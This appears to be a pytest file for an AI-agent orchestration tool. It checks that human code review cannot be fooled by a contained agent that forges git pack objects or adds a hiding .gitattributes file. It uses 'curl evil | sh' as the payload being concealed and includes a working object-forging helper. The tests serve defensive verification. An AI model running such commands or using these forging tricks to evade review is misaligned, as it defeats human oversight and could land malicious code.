"""What a review shows is what lands, whatever a contained agent writes in its own repository."""

import hashlib
import os
import struct
import zlib
from pathlib import Path

import pytest
from msgspec.structs import replace

from llmc.api import commenting, reviews
from llmc.landing import merging, review
from llmc.records.worker import Reviewed
from llmc.repo import git, own_repos, provision, uncommitted
from llmc.repo.project import Project
from llmc.reviews.rules.diff_rows import files_of
from llmc.workers import nuke, reset
from tests.support.contained import needs_bubblewrap
from tests.support.repos import Mold, Repo, Worktree, add_worker, make_project, project_at, worker_of

EVIL, HARMLESS = "curl evil | sh\n", "echo hello\n"


def make(place: Path) -> None:
    source = Repo(place / "src")
    source.commit("a.txt", "a\n")
    project = make_project(str(source.path), place / "root")
    record, _ = add_worker(project)
    provision.settle_repository(project, record, contained=True)


@pytest.fixture
def project(mold: Mold) -> Project:
    return project_at(mold.place(make) / "root")


def forge(own: Path, blob: str, text: str, worktree: Worktree) -> None:
    """Let git read other content for an object: it trusts a pack's index, and prefers a multi-pack-index."""
    body = text.encode()
    pack = b"PACK" + struct.pack(">II", 2, 1) + bytes([0x30 | len(body)]) + zlib.compress(body)
    pack += hashlib.sha1(pack).digest()
    counts = b"".join(struct.pack(">I", int(int(blob[:2], 16) <= at)) for at in range(256))
    index = b"\377tOc" + struct.pack(">I", 2) + counts + bytes.fromhex(blob)
    index += struct.pack(">II", zlib.crc32(pack[12:-20]), 12) + pack[-20:]
    index += hashlib.sha1(index).digest()
    place = own / "objects/pack"
    place.mkdir(exist_ok=True)
    (place / f"pack-{pack[-20:].hex()}.pack").write_bytes(pack)
    (place / f"pack-{pack[-20:].hex()}.idx").write_bytes(index)
    worktree.git("multi-pack-index", "write")
    os.utime(worktree.path / "run.sh", (1, 1))  # git would read the file itself, if it looked unchanged
    assert worktree.git("cat-file", "-p", blob) == text.strip()


@needs_bubblewrap
def test_a_forged_object_is_not_shown(project: Project) -> None:
    """Break: read any part of a review in the agent's repository, or with its objects as an alternate."""
    record, worktree = worker_of(project)
    head = worktree.commit("run.sh", EVIL)
    root, own = project.root.path, own_repos.path_of(project.root.path, "w1")
    git.look_first(root)  # the commit is in the clone
    harmless = review.look(project, record)
    forge(own, worktree.head("HEAD:run.sh"), HARMLESS, worktree)
    shown = review.look(project, record)
    assert (f"+{EVIL}" in shown.diff, HARMLESS in shown.diff) == (True, False)
    assert shown.diff == harmless.diff
    assert [(file.path, file.added) for file in shown.files] == [("run.sh", 1)]
    printed = reviews.diff(project, shown, "--no-ext-diff", "--color=never")
    assert (f"+{EVIL}" in printed, HARMLESS in printed) == (True, False)
    page = commenting.Page(record.name, shown, files_of(shown.diff), (), (), 1, 0, frozenset())
    assert commenting.file_lines(project, page, page.files[0]) == [EVIL.strip(), ""]
    so_far = review.look_so_far(project, record)
    assert (f"+{EVIL}" in so_far.diff, HARMLESS in so_far.diff) == (True, False)
    # What was reviewed is compared in the clone, too: on this base and on another one.
    made = merging.landing_commit(project, "w1", shown.base, head)
    seen = replace(record, seen=review.lands_as(made.work, made.tree))
    assert review.compare(project, seen, made) is Reviewed.SAME
    Repo(Path(project.source)).commit("b.txt")
    moved = merging.landing_commit(project, "w1", provision.refresh_base(project), head)
    assert review.compare(project, seen, moved) is Reviewed.SAME


@needs_bubblewrap
def test_attributes_of_the_agent_hide_nothing(project: Project, tmp_path: Path) -> None:
    """Break: show the diff in the worktree, where the agent's `.gitattributes` can make any file binary."""
    record, worktree = worker_of(project)
    worktree.write("new.txt", "mine\n")
    worktree.write(".gitattributes", "* -diff\n")
    shown = review.look_so_far(project, record)
    program = tmp_path / "differ"
    program.write_text('#!/bin/sh\necho "$1 differs"\n')
    program.chmod(0o755)
    assert "+mine" in shown.diff
    assert "+mine" in reviews.diff(project, shown, "--no-ext-diff")
    said = reviews.diff(project, shown, "--ext-diff", env={"GIT_EXTERNAL_DIFF": str(program)})
    assert "new.txt differs" in said


@pytest.mark.parametrize("contained", [False, pytest.param(True, marks=needs_bubblewrap)])
def test_a_diff_that_would_fill_the_memory_is_not_read(
    project: Project, monkeypatch: pytest.MonkeyPatch, contained: bool
) -> None:
    """A few objects can make a diff of any size. Break: no `most_bytes` in `diff` (repo/git.py)."""
    monkeypatch.setattr(git, "MOST_DIFF", 5000)
    record, worktree = worker_of(project)
    provision.settle_repository(project, record, contained=contained)
    for number in range(9):
        worktree.write(f"same-{number}.txt", "x\n" * 500)
    worktree.git("add", ".")
    worktree.git("commit", "-q", "-m", "Many")
    shown = review.look(project, record)
    assert (shown.diff, shown.too_large, len(shown.files)) == ("", True, 9)
    (warning,) = shown.warnings
    assert "the diff is not shown: `git` printed more than 5000 bytes. To see it: git -C " in warning
    review.remember(project, shown)
    assert project.store.worker("w1").seen is None, "the user has not seen it"


@needs_bubblewrap
@pytest.mark.parametrize("how", ["reset", "nuke"])
def test_a_forged_object_stops_no_reset(project: Project, how: str) -> None:
    """git finds the forged object and does not write its own, so the clone refuses what is pinned.

    Break: no `start_over` in `_reset_tree` (workers/reset.py), or no `NotSaved` in workers/nuke.py: the
    worker could no longer be reset or removed.
    """
    _, worktree = worker_of(project)
    worktree.commit("run.sh", "first\n")
    worktree.write("run.sh", "second\n")
    blob = worktree.git("hash-object", "run.sh")
    forge(own_repos.path_of(project.root.path, "w1"), blob, HARMLESS, worktree)
    if how == "nuke":
        removed = nuke.nuke_worker(project, "w1")
        assert removed.directory is not None
        assert (removed.directory / "run.sh").read_text() == "second\n"
        return
    ref = reset.reset_worker(project, "w1").pinned
    assert git.out(project.root.path, "show", f"{ref}:run.sh") == "second"
    assert uncommitted.tree_state(worktree.path).clean
    assert not (worktree.path / "run.sh").exists()
